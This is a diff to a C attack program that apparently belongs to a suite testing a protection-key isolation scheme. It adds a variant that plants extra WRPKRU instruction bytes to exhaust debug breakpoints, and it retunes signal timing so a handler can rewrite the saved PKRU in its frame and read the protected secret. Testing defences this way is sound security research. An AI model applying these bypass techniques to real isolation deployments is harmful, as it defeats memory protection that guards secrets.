@@ -5,7 +5,10 @@
  *    (SA_ONSTACK) and finds the trusted register in its frame;
  *  - a handler edits its own frame's saved PKRU to "readable, not writable"
  *    (access-disable clear, write-disable set) and rt_sigreturn restores it:
- *    the secret can be read. */
+ *    the secret can be read.
+ * Built twice: with three WRPKRU sites (erim-tem holds signals with debug
+ * register breakpoints) and, as atk_sigstep, with more than four (it steps
+ * from branch to branch instead). */
 #include <sys/time.h>
 #include <time.h>
 #include <ucontext.h>
@@ -15,6 +18,14 @@
 #define TRUSTED_R12 0x5ec2e75ec2e75ec2ull
 
 static volatile int leaked, delivered;
+
+#ifdef ATK_MANY_WRPKRU
+/* never run: only there so the program has more WRPKRU sites than a CPU
+ * has breakpoints */
+__asm__(".pushsection .text.atk_sites,\"ax\",@progbits\n"
+        ".byte 0x0f,0x01,0xef, 0x0f,0x01,0xef, 0x0f,0x01,0xef, 0xc3\n"
+        ".popsection\n");
+#endif
 static uint32_t pkru_off;
 static volatile uint8_t sink;
 
@@ -48,7 +59,7 @@ static int signal_in_trusted(void)
 {
 	static uint8_t altstack[1 << 16];
 	stack_t ss = { .ss_sp = altstack, .ss_size = sizeof altstack, .ss_flags = 0 };
-	struct itimerval it = { { 0, 1000 }, { 0, 1000 } }, off = { { 0, 0 }, { 0, 0 } };
+	struct itimerval it = { { 0, 5000 }, { 0, 5000 } }, off = { { 0, 0 }, { 0, 0 } };
 	struct sigaction sa;
 	struct timespec t0, now;
 	long rounds = 0;
@@ -62,8 +73,12 @@ static int signal_in_trusted(void)
 	clock_gettime(CLOCK_MONOTONIC, &t0);
 	do {
 		trusted_window();
-		rounds++;
-		clock_gettime(CLOCK_MONOTONIC, &now);
+		/* few system calls: a signal is delivered on the way back to
+		 * user space, and should find the thread in the loop */
+		if (++rounds % 256 == 0)
+			clock_gettime(CLOCK_MONOTONIC, &now);
+		else
+			now = t0;
 	} while (!leaked && (now.tv_sec - t0.tv_sec) * 1000 + (now.tv_nsec - t0.tv_nsec) / 1000000 < 2000);
 	setitimer(ITIMER_REAL, &off, NULL);
 	atk_say("trusted windows: %ld, signals delivered: %d, trusted r12 in a frame on the untrusted "
@@ -135,5 +150,9 @@ static enum atk_result atk_attack(void)
 	return won ? ATK_SUCCEEDED : ATK_REFUSED;
 }
 
+#ifdef ATK_MANY_WRPKRU
+static const char *atk_name = "atk_sigstep";
+#else
 static const char *atk_name = "atk_sigtrusted";
+#endif
 static int atk_needs_pku = 1;
